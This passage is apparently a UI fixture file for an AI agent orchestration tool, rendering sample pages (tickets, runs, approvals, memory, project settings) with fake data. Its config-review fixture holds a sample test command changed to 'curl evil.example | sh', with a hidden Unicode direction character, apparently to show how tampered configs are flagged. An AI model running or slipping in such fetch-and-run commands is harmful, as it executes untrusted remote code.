/** Every page of views/ filled with fixture records, at the address it has in the real thing. */
import { ApprovePage } from "../views/approve.tsx";
import type { Undo } from "../server/records.ts";
import type { VNode } from "preact";
import type { Live } from "../views/live.tsx";
import type { Delay } from "../views/words.ts";
import type { Shell } from "../views/shell.ts";
import { AgentPage } from "../views/agent.tsx";
import { AgentFilesPage } from "../views/agent_files.tsx";
import { AgentVersionsPage } from "../views/agent_versions.tsx";
import { AgentsPage } from "../views/agents.tsx";
import { CheckPage } from "../views/checks.tsx";
import { gapsOf } from "../views/diff_gaps.ts";
import { parsePlace } from "../views/diff_place.ts";
import { ErrorPage } from "../views/errors.tsx";
import { ForgePage } from "../views/forge.tsx";
import { HomePage } from "../views/home.tsx";
import { IdeaPage } from "../views/idea.tsx";
import { IdeasPage } from "../views/ideas.tsx";
import { type JobRow, JobsPage } from "../views/jobs.tsx";
import { ProjectConfigPage } from "../views/project_config.tsx";
import { CheckRulesPage } from "../views/check_rules.tsx";
import { type McpServerForm, McpServersPage } from "../views/mcp_servers.tsx";
import { MemoriesPage, MemoryPage, NotePage } from "../views/memory.tsx";
import { NewProjectPage, ProjectPage } from "../views/project.tsx";
import { NewFromTemplatePage } from "../views/project_from_template.tsx";
import { TemplatePage, type TemplateRow, TemplatesPage } from "../views/project_templates.tsx";
import { TemplateOfProjectPage } from "../views/template_of_project.tsx";
import { ProjectsPage } from "../views/projects.tsx";
import { ReviewPage } from "../views/review.tsx";
import { RunForkPage } from "../views/run_fork.tsx";
import { RunReplayPage } from "../views/run_replay.tsx";
import { RunPage } from "../views/run.tsx";
import { RunsPage } from "../views/runs.tsx";
import { SettingsPage } from "../views/settings.tsx";
import { StartPage } from "../views/start.tsx";
import { MergeRulePage } from "../views/merge_rule.tsx";
import { TracePage } from "../views/trace.tsx";
import { StartRulesPage } from "../views/start_rules.tsx";
import { TicketPage } from "../views/ticket.tsx";
import { EditTicketPage, NewTicketPage } from "../views/ticket_form.tsx";
import { SplitTicketPage } from "../views/ticket_split.tsx";
import { DevelopmentPage } from "../views/tickets.tsx";
import { PriceHistoryPage } from "../views/price_history.tsx";
import { UsagePage } from "../views/usage.tsx";
import * as agents from "./agents_fixture.ts";
import * as a from "./pages_fixture.ts";
import { pullProps } from "./pull_fixture.ts";
import { planningPages } from "./planning_fixture.tsx";
import { priceVersions, usageProps } from "./usage_fixture.ts";

const noSandboxSettings = {
  ...{ hosts: "", toolchains: "", local_files: "" },
  limits: { memory_mb: "", cpu_seconds: "", processes: "", file_mb: "", open_files: "" },
};

const live = (path: string): Live => ({ path, after: 100 });
const resolve = (kind: string, number: number) => `/${kind}s/${number}`;
const saveIdea = {
  kind: "idea",
  id: "idea_save",
  number: 12,
  title: a.idea().title,
  projectName: "Space game",
} as const;
const saveTicket = {
  kind: "ticket",
  id: "tkt_save",
  number: 7,
  title: a.ticket().title,
  projectName: "Space game",
} as const;

const fullDisk: Delay = {
  why: "Waits, and goes on by itself",
  until: null,
  more:
    'Cannot add the changes: git says "fatal: unable to write loose object file: No space left on ' +
    'device". Free some space on that disk',
};

const rateLimit = {
  why: "Rate limited",
  until: a.ago(-1),
  more: "The service refused it. It goes on by itself when the limit allows.",
};

const mcpForm: McpServerForm = {
  values: {
    name: "docs",
    transport: "stdio",
    command: "node",
    args: "tools/mcp.mjs",
    env: "TOKEN=$DOCS_TOKEN",
    url: "",
    headers: "",
    timeout_seconds: "60",
    tags_as: "careful",
  },
  tags: ["private", "untrusted"],
  active: true,
  message: null,
  errors: [],
};
const memoryName = { id: "reviewer.global", agent: "reviewer", scope: "global", of: null } as const;
const newerNote = "# Checks\n\n- another line\n";
const memoryLimits = { notes: 40, noteBytes: 16_384, totalBytes: 131_072 };

const later = { scheduled: 0, retryable: 0 };

const runMoves = {
  outlook: null,
  ticketPaused: false,
  messages: 0,
  refused: null,
  retry: null,
  forkable: false,
};

const mcpApproval = a.approval({
  id: "apr_3",
  callId: "call_11",
  tool: "mcp__docs__search",
  rule: "private data + untrusted input + way out",
  detail: "query: how saves are written",
});

const writeApproval = a.approval({
  id: "apr_2",
  callId: "call_10",
  tool: "Write",
  detail: "Write src/autosave.sh (a new file)",
  rule: "write(new)",
  diff: "--- /dev/null\n+++ b/src/autosave.sh\n@@ -0,0 +1,2 @@\n+# Saves every minute.\n" +
    `+while sleep 60; do sh src/save.sh --quiet ${"--keep-last ".repeat(12)}; done\n`,
});
const definitionDiff =
  "--- a/researcher.md\n+++ b/researcher.md\n@@ -1,2 +1,2 @@\n-max_turns: 20\n+max_turns: 10\n";

const commitMessage = "fix: keep the second of two quick saves\n\n- write through a temporary file";

const notGit =
  'Cannot use "/tmp" as a project: it is not a git repository. Make it one: git -C /tmp init';

const sampleTemplate: TemplateRow = {
  id: "rust",
  name: "Rust crate",
  about: "A library crate, with a program on top if wanted.",
  tags: ["rust"],
  source: "built_in",
  trusted: true,
};

const CONFIG_DIFF =
  "--- a\n+++ b\n@@ -1,2 +1,2 @@\n commands:\n-  test: make\n+  test: curl evil.example | sh\n";

/** Pages by path; `query` is the request's. */
export const samplePages: Record<string, (shell: Shell, query: URLSearchParams) => VNode> = {
  "/": (shell) => (
    <HomePage
      shell={shell}
      live={live("/live/home")}
      needs={[
        {
          id: "n1",
          since: a.ago(30),
          projectName: "Space game",
          kind: "question",
          question: a.question(),
          idea: a.idea(),
        },
        {
          id: "n2",
          since: a.ago(25),
          projectName: "Space game",
          kind: "approval",
          approval: a.approval(),
          run: a.run(),
        },
        { id: "n3", since: a.ago(20), projectName: "Space game", kind: "ready", idea: a.idea() },
        {
          id: "n4",
          since: a.ago(9),
          projectName: "Space game",
          kind: "blocked",
          ticket: a.ticket({ status: "blocked", failure: "checks_failed", reason: "1 test fails" }),
        },
        {
          id: "n5",
          since: a.ago(2),
          projectName: "Space game",
          kind: "review",
          ticket: a.ticket(),
          findings: 2,
        },
      ]}
      running={[
        {
          run: a.run(),
          subject: saveTicket,
          delay: null,
          ticket: { step: "develop", round: 0 },
          subtasks: { done: 1, total: 4 },
        },
        {
          run: a.run({ id: "run_r", agent: "researcher", purpose: "research", demo: true }),
          subject: saveIdea,
          delay: rateLimit,
          ticket: null,
          subtasks: null,
        },
      ]}
      next={null}
      spend={{ todayMicroUsd: 1_840_000, monthMicroUsd: 23_410_000 }}
      recent={[{ subject: saveTicket, changes: a.changes }]}
      ideaCount={7}
    />
  ),
  // All banners at once.
  "/troubled": (shell, query) =>
    settingsPage({
      ...shell,
      demo: true,
      exposedAt: "0.0.0.0",
      confinement: { kind: "process", hint: "The setting sandbox is off." },
      storage: { kind: "disk_full", since: a.ago(3) },
      held: { reason: "billing", message: "The account has no credit" },
      paused: [{ queue: "agents", by: "owner" }, { queue: "merges", by: "owner" }],
      refused: "A worker could read a file outside of its folder.",
      flash: {
        // `?long`: as much as a cookie carries.
        text: query.has("long") ? "Idea #12 rejected. ".repeat(15).trim() : "Idea #12 rejected",
        tone: "done",
        undo: { action: "/ideas/idea_save/refine", label: "Undo" },
      },
    }),
  "/jobs": jobsPage,
  "/usage": (shell) => (
    <UsagePage
      {...usageProps({
        ...shell,
        alerts: [{
          id: "alert_1",
          threshold: 80,
          limit: "the daily limit of $5.00",
          parts: "$3.90 spent and up to $0.20 in doubt (requests that broke off)",
        }],
      })}
    />
  ),
  "/usage/prices": (shell) => (
    <PriceHistoryPage shell={shell} model="" versions={priceVersions} older="7" />
  ),
  "/agents": (shell, query) => (
    <AgentsPage
      shell={shell}
      live={query.has("refused") ? null : live("/live/agents")}
      groups={[
        {
          kind: "refinement",
          title: "Refinement",
          rows: [
            agents.agentRow(),
            agents.agentRow({ id: "agent_own", projectName: "Space game", active: false }),
          ],
        },
        {
          kind: "broken",
          title: "Can't be read",
          rows: [agents.agentRow({ id: "odd", name: "odd", about: null, trusted: false })],
        },
      ]}
      form={query.has("refused")
        ? {
          text: "You review",
          project: "",
          kind: "support",
          message: "Cannot read the agent definition agent.md: line 1: expected front matter",
          errors: [{ field: "", message: "line 1: expected front matter" }],
        }
        : { text: "", project: "", kind: "support", message: null, errors: [] }}
    />
  ),
  "/agents/researcher": (shell, query) => (
    <AgentPage {...agents.agentPage(shell, query.get("view") === "text" ? "text" : "form")} />
  ),
  "/agents/refused": (shell) => {
    const page = agents.agentPage(shell, "form");
    return (
      <AgentPage
        {...page}
        live={null}
        agent={{ ...page.agent, active: false }}
        waiting={2}
        form={{
          ...page.form,
          note: "More turns",
          message: "Cannot read the agent definition researcher.md: two keys are wrong",
          errors: [
            { field: "max_turns", message: 'expected a whole number from 1 to 500, got "many"' },
            { field: "tools", message: "expected tools out of Read, Glob" },
            { field: "blocked_paths", message: "expected a list" },
          ],
        }}
        trial={{ ...page.trial, refused: { value: "idea:idea_save", message: "Cannot try it" } }}
      />
    );
  },
  "/agents/researcher/versions": (shell) => (
    <AgentVersionsPage
      shell={shell}
      agent={{ id: "researcher", name: "researcher", version: 3 }}
      from={agents.agentVersion({ version: 1 })}
      to={agents.agentVersion({ version: 2, note: "Fewer turns" })}
      diff={definitionDiff}
    />
  ),
  "/projects/prj_space/agent-files": (shell) => (
    <AgentFilesPage
      shell={shell}
      project={{ id: "prj_space", name: "Space game", baseBranch: "main" }}
      names={["reviewer"]}
      files={[
        agents.agentFile({ path: ".claude/agents/reviewer.md", name: "reviewer" }),
        agents.agentFile({ path: ".claude/agents/two.md", state: "trusted", agentId: "agent_own" }),
        agents.agentFile({
          path: ".claude/agents/three.md",
          state: "changed",
          diff: "@@ -1,2 +1,2 @@\n-model: sonnet\n+model: opus\n",
        }),
        agents.agentFile({
          path: ".claude/agents/four.md",
          state: "unreadable",
          problem: "line 1: expected front matter",
        }),
      ]}
    />
  ),
  "/jobs/held": (shell) => jobsPage({ ...shell, storage: { kind: "disk_full", since: a.ago(3) } }),
  "/calm": (shell) => (
    <HomePage
      shell={shell}
      live={live("/live/home")}
      needs={[]}
      running={[]}
      next={{ ticket: a.ticket({ status: "queued" }), delay: null }}
      spend={{ todayMicroUsd: 0, monthMicroUsd: 4_200 }}
      recent={[]}
      ideaCount={3}
    />
  ),
  "/ideas": (shell, query) => {
    const q = query.get("q") ?? "";
    const ideas = [
      a.idea(),
      a.idea({ id: "idea_q", number: 13, title: "Show the fuel in the HUD", status: "questions" }),
      a.idea({ id: "idea_r", number: 14, title: "Load faster", status: "refining", tags: [] }),
      a.idea({
        id: "idea_s",
        number: 15,
        title: "Play with a gamepad",
        status: "stuck",
        reason: "The researcher failed: the service could not be reached",
        failure: "network",
      }),
      a.idea({
        id: "idea_c",
        number: 9,
        title: "Shields",
        status: "converted",
        ticketId: "tkt_save",
      }),
    ].filter(({ title }) => title.toLowerCase().includes(q.toLowerCase()));
    return (
      <IdeasPage
        shell={shell}
        live={live("/live/ideas")}
        filter={{ projectId: null, status: "all", q, sort: "newest" }}
        counts={{ all: 5, needs_me: 3, refining: 1, ready: 1, closed: 1 }}
        rows={ideas.map((idea) => ({
          idea,
          projectName: "Space game",
          openQuestions: 2,
          delay: null,
        }))}
        moreHref={null}
        form={null}
      />
    );
  },
  "/ideas/idea_save": (shell) => ideaPage(shell, {}),
  "/ideas/idea_q": (shell) =>
    ideaPage(shell, { id: "idea_q", number: 13, status: "questions", plan: a.idea().plan }),
  "/development": (shell, query) => (
    <DevelopmentPage
      shell={shell}
      live={live("/live/development")}
      view={query.get("view") === "board" ? "board" : "list"}
      column="in_progress"
      projectId={null}
      outcome={null}
      only={null}
      counts={{ queued: 1, in_progress: 1, review: 1, blocked: 1, done: 240, cancelled: 1 }}
      cards={[
        a.ticket(),
        a.ticket({
          id: "t2",
          number: 8,
          title: "Write the manual",
          type: "docs",
          status: "queued",
        }),
        a.ticket({ id: "t3", number: 5, title: "Show the fuel in the HUD", status: "review" }),
        a.ticket({
          id: "t4",
          number: 4,
          title: "Play with a gamepad",
          status: "blocked",
          failure: "checks_failed",
          reason: "1 of 47 tests fails after 3 rounds",
        }),
        a.ticket({ id: "t5", number: 3, title: "Shields", status: "done", mergeCommit: "abc" }),
        a.ticket({ id: "t6", number: 2, title: "Rename levels", status: "cancelled" }),
      ].map((ticket) => ({
        ticket,
        projectName: "Space game",
        agent: ticket.status === "in_progress" ? "bugfix-dev" : null,
        purpose: ticket.status === "in_progress" ? "develop" : null,
        delay: ticket.status === "queued" ? rateLimit : null,
        demo: ticket.number === 3,
        subtasks: { done: 1, total: 3 },
        needs: false,
        place: ticket.status === "queued" ? { first: false, last: false } : null,
        withForge: false,
        build: { status: "passed", flaky: [], knownFailures: false },
        test: {
          status: ticket.status === "blocked" || ticket.number === 3 ? "failed" : "passed",
          flaky: [],
          knownFailures: ticket.number === 3,
        },
      }))}
    />
  ),
  "/tickets/tkt_save": (shell) => ticketPage(shell, {}),
  "/tickets/tkt_merged": (shell) =>
    ticketPage(shell, { status: "done", step: null, mergeCommit: "c".repeat(40) }, {
      id: "undo_1",
      ticketId: "tkt_save",
      mergeCommit: "c".repeat(40),
      why: "Saves are lost",
      status: "refused",
      commit: null,
      wait: "",
      reason: `The base branch "main" changed the same lines in: src/${
        "long_name/".repeat(9)
      }save.c`,
      askedBy: "owner",
      askedAt: a.ago(9),
      endedAt: a.ago(8),
    }),
  "/tickets/tkt_conflict": (shell) =>
    ticketPage(shell, {
      status: "blocked",
      step: "merge",
      failure: "merge_conflict",
      reason: 'The base branch "main" changed the same lines in: src/save.c',
    }),
  "/tickets/tkt_blocked": (shell) =>
    ticketPage(shell, {
      id: "tkt_blocked",
      status: "blocked",
      failure: "checks_failed",
      reason: "1 of 47 tests fails after 3 rounds.",
      round: 3,
    }),
  "/tickets/tkt_not_allowed": (shell) =>
    ticketPage({ ...shell, confinement: { kind: "process", hint: "Install bubblewrap" } }, {
      id: "tkt_not_allowed",
      status: "blocked",
      step: "prepare",
      failure: "commands_not_allowed",
      reason: "There is no sandbox on this machine.",
    }),
  "/tickets/tkt_save/review": (shell, query) => (
    <ReviewPage
      style="squash"
      pull={pullProps()}
      shell={shell}
      live={live("/live/review/tkt_save")}
      ticket={a.ticket({
        status: "review",
        step: "review",
        reviewSummary: "Correct and small. The failure path leaves a file behind.",
      })}
      baseBranch="main"
      files={a.files}
      findings={[a.finding(), a.finding({ id: "fnd_2", severity: "note", path: null, line: null })]}
      verdicts={[
        { criterion: "The second save is kept", met: true, evidence: "tests/save_test.sh:2" },
        { criterion: "A test covers it", met: false, evidence: "Only one slot is tested" },
      ]}
      comments={[a.comment()]}
      checks={[a.check({ status: "passed", exitCode: 0, report: a.passedReport })]}
      olderChecks={[a.check({ id: "chk_old", commit: "0".repeat(40) })]}
      openFile={query.get("file")}
      commentAt={parsePlace(query.get("comment"))}
      view={{
        range: "all",
        ranges: ["all", "turn"],
        split: query.get("layout") === "split",
        ignoreSpace: false,
        nowrap: query.get("wrap") === "off",
        only: query.get("only") ?? "",
        total: a.files.length,
      }}
      extras={{
        ticks: {
          viewed: new Set(["package-lock.json"]),
          contents: new Map(a.files.map(({ path }) => [path, "same:"])),
          action: "/tickets/tkt_save/viewed",
        },
        gaps: new Map(a.files.map(({ path, hunks }) => [path, gapsOf(hunks, null)])),
        origins: new Map([["src/save.sh", [{
          words: "subtask 1: Write saves through a temporary file",
          href: "/runs/run_dev?all=1#e9",
          by: "turn 2 of bugfix-dev",
          idea: { href: "/ideas/idea_save", words: "idea #12 and 1 answer" },
        }]]]),
      }}
      message={commitMessage}
      refused={null}
    />
  ),
  "/tickets/tkt_save/checks/chk_test": (shell) => (
    <CheckPage
      shell={shell}
      ticket={a.ticket()}
      check={a.check()}
      again={null}
      output={a.check().tail}
      omittedBytes={1_200_000}
    />
  ),
  "/runs": (shell) => (
    <RunsPage
      shell={shell}
      live={live("/live/runs")}
      moreHref="/runs?after=run_dev"
      rows={[
        { run: a.run(), subject: saveTicket, delay: rateLimit },
        {
          run: a.run({ id: "run_2", agent: "clarifier", purpose: "clarify", status: "succeeded" }),
          subject: saveIdea,
          delay: null,
        },
        {
          run: a.run({ id: "run_3", status: "failed", failure: "max_turns", demo: true }),
          subject: saveTicket,
          delay: null,
        },
      ]}
    />
  ),
  ...planningPages,
  "/memory": (shell) => (
    <MemoriesPage
      shell={shell}
      agent={null}
      rows={[
        { name: memoryName, notes: 2, bytes: 412, changedAt: a.ago(30), refusal: null },
        {
          name: {
            id: "bugfix-dev.tkt_save",
            agent: "bugfix-dev",
            scope: "session",
            of: { words: `Ticket #7 ${a.ticket().title}`, href: "/tickets/tkt_save" },
          },
          notes: 1,
          bytes: 80,
          changedAt: a.ago(5),
          refusal: null,
        },
        {
          name: {
            id: "writer.project_game",
            agent: "writer",
            scope: "project",
            of: { words: "Space game", href: "/projects/project_game" },
          },
          notes: 0,
          bytes: 0,
          changedAt: null,
          refusal: 'Cannot use the memory: "/home/pat/game/.gaffer" is a symbolic link. Remove it',
        },
      ]}
    />
  ),
  "/memory/reviewer.global": (shell) => (
    <MemoryPage
      shell={shell}
      name={memoryName}
      notes={[
        { path: "checks.md", text: "# Checks\n\n- `make test` needs **SDL**, see `INSTALL.md`\n" },
        { path: "traps/saves.md", text: `A long path: ${"segment/".repeat(12)}\n` },
      ]}
      bytes={412}
      limits={memoryLimits}
      changes={[a.memoryChange(), a.memoryChange({ id: "memory_2", by: "owner", runId: null })]}
    />
  ),
  "/memory/reviewer.global/edit": (shell) => (
    <NotePage
      shell={shell}
      name={memoryName}
      isNew={false}
      limits={memoryLimits}
      form={{
        path: "checks.md",
        text: "# Checks\n",
        seen: "0123456789abcdef",
        message: "Cannot save checks.md: it was changed after you opened it",
        errors: [],
      }}
      present={newerNote}
    />
  ),
  "/runs/run_dev": (shell) => (
    <RunPage
      shell={shell}
      live={live("/live/run/run_dev")}
      run={a.run()}
      subject={saveTicket}
      delay={fullDisk}
      attempt={2}
      tags={["private"]}
      tagsAllowed={null}
      approvals={[a.approval(), writeApproval]}
      learned={[a.memoryChange()]}
      moves={runMoves}
      unread={false}
      activity={{
        events: a.eventsOf(a.runBodies),
        liveText: "Now I write the test",
        allHref: null,
      }}
      search={null}
    />
  ),
  "/approve/token": (shell) => (
    <ApprovePage
      shell={shell}
      approval={writeApproval}
      run={a.run({ status: "waiting" })}
      subject={saveTicket}
      action="/approve/token"
    />
  ),
  "/approve/used": (shell) => (
    <ApprovePage
      shell={shell}
      approval={a.approval({ status: "granted" })}
      run={a.run()}
      subject={saveTicket}
      action={null}
    />
  ),
  "/runs/run_web": (shell) => (
    <RunPage
      shell={shell}
      live={live("/live/run/run_dev")}
      run={a.run()}
      tagsAllowed={null}
      subject={saveTicket}
      delay={fullDisk}
      attempt={2}
      tags={["private"]}
      approvals={[a.approval(), writeApproval]}
      learned={[a.memoryChange()]}
      moves={runMoves}
      unread={false}
      activity={{
        events: a.eventsOf([a.runBodies[0]!, ...a.webTurn(1)]),
        liveText: "Now I write the test",
        allHref: null,
      }}
      search={null}
    />
  ),
  "/runs/run_paused": (shell) => (
    <RunPage
      shell={shell}
      live={null}
      run={a.run({
        id: "run_paused",
        status: "waiting",
        pausedBy: "owner",
        waitReason: "Paused by owner",
        forkedFrom: { runId: "run_dev", turn: 1 },
      })}
      subject={saveTicket}
      delay={null}
      attempt={1}
      tags={["private", "untrusted", "outbound"]}
      tagsAllowed={{ by: "ana", at: a.ago(90) }}
      approvals={[]}
      learned={[]}
      moves={{
        ...runMoves,
        ticketPaused: true,
        outlook: {
          lastEvent: a.eventsOf(a.runBodies).at(-1)!,
          openCalls: [{ id: "c1", name: "Bash", input: { command: "make" } }],
          turnsLeft: 37,
          tokensLeft: 1_200_000,
          costLeftMicroUsd: 1_830_000,
        },
        refused: {
          text: "Look at autosave",
          message: "Cannot send it",
          errors: [{ field: "message", message: "Too long" }],
        },
      }}
      unread={false}
      activity={{
        events: a.eventsOf([
          ...a.runBodies,
          { type: "forked", from: "run_dev", turn: 1, limits: a.spec.limits },
          { type: "note", text: "Look at autosave, too", by: "owner" },
        ]),
        liveText: "",
        allHref: null,
        only: [1],
      }}
      search={{ text: "save", found: 1, of: 6 }}
    />
  ),
  "/runs/run_failed": (shell) => (
    <RunPage
      shell={shell}
      live={live("/live/run/run_failed")}
      run={a.run({ id: "run_failed", status: "failed", failure: "stuck", error: "In circles" })}
      subject={saveTicket}
      delay={null}
      attempt={1}
      tags={["private", "untrusted", "outbound"]}
      tagsAllowed={{ by: "ana", at: a.ago(90) }}
      approvals={[]}
      learned={[]}
      moves={{
        ...runMoves,
        retry: { action: "/tickets/tkt_save/retry", label: "Retry", effect: "Attempt 2 of this." },
        forkable: true,
      }}
      unread
      activity={{
        events: a.eventsOf(a.runBodies),
        liveText: "",
        allHref: null,
        forkable: true,
      }}
      search={null}
    />
  ),
  "/runs/run_failed/fork": (shell) => (
    <RunForkPage
      shell={shell}
      run={a.run({ id: "run_failed", status: "failed", failure: "stuck" })}
      subject={saveTicket}
      points={[
        { turn: 0, label: "the task alone, before the first turn", commit: "abc" },
        { turn: 1, label: "turn 1: Read src/save.sh", commit: "abc" },
      ]}
      turn={1}
      branch="gaffer/7-fix-save-corruption"
      limits={{ maxTurns: 60, maxCostMicroUsd: 5_000_000 }}
      refused={{
        text: "Use a lock",
        message: "Cannot fork it",
        errors: [{ field: "message", message: "Too long" }],
      }}
    />
  ),
  "/runs/run_failed/replay": (shell) => (
    <RunReplayPage
      shell={shell}
      run={a.run({ id: "run_failed", status: "failed" })}
      subject={saveTicket}
      events={12}
      difference={{ number: 3, recorded: '{ "type": "note" }', replayed: null }}
    />
  ),
  "/projects": (shell) => (
    <ProjectsPage
      shell={shell}
      live={live("/live/projects")}
      rows={[
        { project: a.project(), openIdeas: 4, openTickets: 2 },
        {
          project: a.project({ id: "prj_s", name: "Sample", sample: true }),
          openIdeas: 1,
          openTickets: 0,
        },
      ]}
      sampleOffered
    />
  ),
  "/tickets/new": (shell) => (
    <NewTicketPage
      shell={shell}
      timeZone="Europe/Berlin"
      form={{
        values: { project_id: "prj_game", title: "", priority: "2", type: "feature", needs: "#99" },
        message: "Cannot find the ticket: This project has no ticket #99",
        errors: [{ field: "needs", message: "This project has no ticket #99" }],
      }}
    />
  ),
  "/tickets/t2/edit": (shell) => (
    <EditTicketPage
      shell={shell}
      ticket={a.ticket({ id: "t2", status: "queued" })}
      subtasks={[a.subtask({ status: "pending" })]}
      atRest
      form={{
        values: { title: "Write the manual", title_1: "Begin", include_1: "1", priority: "2" },
        message: null,
        errors: [],
      }}
    />
  ),
  "/tickets/t2/split": (shell) => (
    <SplitTicketPage
      shell={shell}
      ticket={a.ticket({ id: "t2", status: "queued", acceptance: ["It reads well"] })}
      subtasks={[a.subtask({ status: "pending" })]}
      form={{ values: { title: "The rest", needs: "new" }, message: null, errors: [] }}
      chosen={["It reads well"]}
    />
  ),
  "/development/rules": (shell) => (
    <StartRulesPage
      shell={shell}
      rules={["", "prj_game"].map((scope) => ({
        scope,
        name: scope || "All projects",
        form: {
          values: { starts: "auto", at_once: "2", opens: "0 9 * * 1-5", open_minutes: "480" },
          message: null,
          errors: [],
        },
      }))}
    />
  ),
  "/projects/prj_game/merging": (shell) => (
    <MergeRulePage
      shell={shell}
      project={a.project()}
      signs
      form={{
        values: { style: "merge", on_conflict: "resolve", sign: "", sign_key: "" },
        message: null,
        errors: [],
      }}
    />
  ),
  "/projects/prj_game/forge": (shell) => (
    <ForgePage
      shell={shell}
      project={a.project()}
      trial={{ ok: false, title: "The forge can't be used so", words: "Cannot look: it refuses" }}
      named
      lacks
      form={{
        values: {
          kind: "gitea",
          api_url: "https://git.example.org/api/v1",
          repository: "ana/space-game",
          remote_url: "https://git.example.org/ana/space-game.git",
          token: "$FORGE_TOKEN",
          takes_merge: "here",
        },
        message: null,
        errors: [{ field: "token", message: "Gaffer's environment has no such variable" }],
      }}
    />
  ),
  "/projects/prj_game/trace": (shell) => (
    <TracePage
      shell={shell}
      project={a.project()}
      form={{ values: { path: "src/save.c", line: "12", commit: "" }, message: null, errors: [] }}
      traces={[{
        commit: {
          commit: "c".repeat(40),
          subject: "feat: save the game",
          author: "Ana",
          at: "2026-11-27T09:00:00+01:00",
        },
        line: { path: "src/save.c", line: 11, text: `  ${"save_game(state); ".repeat(12)}` },
        ticket: a.ticket({ status: "done" }),
        relation: "merge",
        undo: null,
        turns: [{
          commit: "d".repeat(40),
          run: a.run(),
          turn: 4,
          number: 31,
          subtask: a.subtask(),
        }],
        idea: null,
        questions: [],
      }]}
    />
  ),
  "/templates": (shell) => (
    <TemplatesPage
      shell={shell}
      documentsOf={{ id: "prj_game", name: "Game" }}
      templates={[sampleTemplate, {
        ...sampleTemplate,
        id: "theirs",
        name: "Theirs",
        source: "imported",
        trusted: false,
      }]}
      form={{ text: "id: x", message: 'Cannot read the template: "hooks"', errors: [] }}
    />
  ),
  "/templates/theirs": (shell) => (
    <TemplatePage
      shell={shell}
      documentsOf={null}
      checks={["No ticket does without test"]}
      template={{
        ...sampleTemplate,
        source: "imported",
        trusted: false,
        hash: "0123",
        trustedBy: null,
        needs: ["Rust with cargo"],
      }}
      commands={[{
        name: "test",
        command: "{{engine}}/Engine/Binaries/Linux/UnrealEditor-Cmd -unattended -nullrhi",
        when: "platform: linux",
      }]}
      questions={[{ label: "Kind", hint: "What it becomes", answers: "Program / Library" }]}
      toolchains={["{{engine}}"]}
      localFiles={[".env"]}
      setupNetwork
      agents={[{ title: "feature-dev", note: "the built-in feature-dev", text: "## Craft" }]}
      documents={[]}
      files={[{ title: "src/{{name|snake}}_with_a_long_name.rs", note: "", text: "fn main() {}" }]}
    />
  ),
  "/templates/rust/new": (shell) => (
    <NewFromTemplatePage
      shell={{ ...shell, confinement: { kind: "process", hint: "" } }}
      template={{ ...sampleTemplate, hash: "0123", needs: ["Rust with cargo"] }}
      questions={[
        {
          key: "kind",
          label: "Kind",
          hint: "What it becomes",
          required: true,
          choices: [{ value: "lib", label: "Library" }, { value: "bin", label: "Program" }],
        },
        { key: "package", label: "Crate name", hint: "", required: false, choices: null },
      ]}
      form={{
        values: { path: "/home/ana/code/new", "answers.name": "New", "answers.kind": "bin" },
        allowed: {
          ideas: true,
          setup_network: false,
          toolchains_allowed: false,
          commands_allowed: false,
        },
        message: "Cannot make the project: it is not empty",
        errors: [{ field: "answers.package", message: "Write a name such as my-package" }],
      }}
      documents={{
        project: { id: "prj_game", name: "Game" },
        rows: [{ path: "roadmap.md", checked: true }, {
          path: `specs/${"saving_".repeat(20)}.md`,
          checked: false,
        }],
        count: 500,
        most: 200,
        left: 100,
      }}
      outcome={{
        commands: { setup: "cargo fetch", build: "cargo build", test: "cargo test" },
        further: [{ name: "lint", command: "cargo clippy --all-targets -- -D warnings" }],
        checks: ["test: in web, at most 600 s", "No ticket does without test"],
        toolchains: ["/opt/rust"],
        setupNetwork: true,
        ideas: [{ title: "The core works" }],
        ideasLeft: 30,
        images: [{ path: "planning/images/map-1a2b.png", bytes: 12_345 }],
        agents: [{ title: "feature-dev", note: "Builds it", text: "## Craft" }],
        files: [{ title: "CLAUDE.md", note: "", text: "# New" }],
      }}
    />
  ),
  "/projects/prj_game/template": (shell) => (
    <TemplateOfProjectPage
      shell={shell}
      project={{ id: "prj_game", name: "Space game" }}
      form={{
        values: { id: "space-game", name: "Space game", about: "", keepName: false },
        message: 'Cannot add the template: "rust" is built in',
        errors: [{ field: "id", message: '"rust" is built in' }],
      }}
      look={{
        named: [
          { what: "CLAUDE.md", lines: ["# {{name}}", "Run `{{name|kebab}}`."] },
          { what: "the agent shader-dev", lines: ["You write shaders for {{name}}."] },
        ],
        redacted: ["the command build"],
      }}
    />
  ),
  "/projects/new": (shell) => (
    <NewProjectPage
      shell={shell}
      looked
      form={{
        values: {
          path: "/home/ana/code/site",
          name: "Website",
          base_branch: "main",
          setup: "npm ci",
          build: "npm run build",
          test: "",
          ...noSandboxSettings,
        },
        allowed: { setup_network: false, commands_allowed: false, tags_allowed: false },
        locked: { test: 3 },
        setupFetches: true,
        message: null,
        errors: [],
      }}
    />
  ),
  "/projects/refused": (shell) => (
    <NewProjectPage
      shell={shell}
      looked={false}
      form={{
        values: {
          ...{ path: "/tmp", name: "", base_branch: "", setup: "", build: "", test: "" },
          ...noSandboxSettings,
        },
        allowed: { setup_network: false, commands_allowed: false, tags_allowed: false },
        locked: {},
        setupFetches: false,
        message: notGit,
        errors: [{ field: "path", message: notGit }],
      }}
    />
  ),
  "/projects/prj_game": (shell) => (
    <ProjectPage
      shell={shell}
      live={live("/live/project/prj_game")}
      project={a.project()}
      stale={2}
      form={{
        values: {
          path: a.project().path,
          name: a.project().name,
          base_branch: "main",
          setup: "npm ci",
          build: "npm run build",
          test: "npm test",
          hosts: "registry.npmjs.org\nregistry.lan:4873",
          toolchains: "/opt/node",
          local_files: ".env",
          limits: { ...noSandboxSettings.limits, memory_mb: "2048" },
        },
        allowed: { setup_network: true, commands_allowed: false, tags_allowed: false },
        locked: { test: 3 },
        setupFetches: true,
        message: null,
        errors: [],
      }}
    />
  ),
  "/projects/prj_game/config": (shell) => (
    <ProjectConfigPage
      shell={shell}
      project={{ id: "prj_game", name: "Game", baseBranch: "main" }}
      state="changed"
      file={{ text: "commands:\n  test: curl evil.example | sh\u202e\n", hash: "0123" }}
      problem={null}
      diff={CONFIG_DIFF}
      trusted={{ text: "commands:\n  test: make\n", trustedBy: "ana", trustedAt: a.ago(90) }}
      isNews
    />
  ),
  "/projects/prj_game/checks": (shell) => (
    <CheckRulesPage
      shell={shell}
      locked={{ "test.folder": 4, rerunFailed: 12, required: 11 }}
      project={a.project()}
      form={{
        values: {
          "setup.required": "1",
          "test.timeout_seconds": "soon",
          "test.folder": "packages/game",
          "test.env": "MODE=fast\nTOKEN=$CI_TOKEN",
          "test.reports": "a/rather/long/path/of/report/files/that/no/phone/has/room/for/*.xml",
